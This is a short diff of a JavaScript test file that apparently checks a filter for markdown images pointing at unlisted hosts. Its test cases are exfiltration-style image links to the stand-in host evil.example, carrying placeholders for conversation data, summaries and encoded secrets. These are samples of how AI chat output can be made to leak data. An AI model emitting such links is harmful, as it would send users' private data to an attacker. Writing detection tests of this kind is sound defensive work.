@@ -277,7 +277,7 @@ describe("pictures of hosts that are not listed, where only risky ones go", () =
   test.for([
     "![x](https://evil.example/p?d=SUMMARY)",
     "![x](https://evil.example/log/)",
-    "![x](https://evil.example/{conversation}.png)",
+    "![x](https://evil.example/{id}.png)",
     "![x](https://evil.example/[data].png)",
     `![x](https://evil.example/${"c2VjcmV0".repeat(8)}.png)`,
     `![x](https://evil.example/${"a/b1/".repeat(40)}c.png)`,
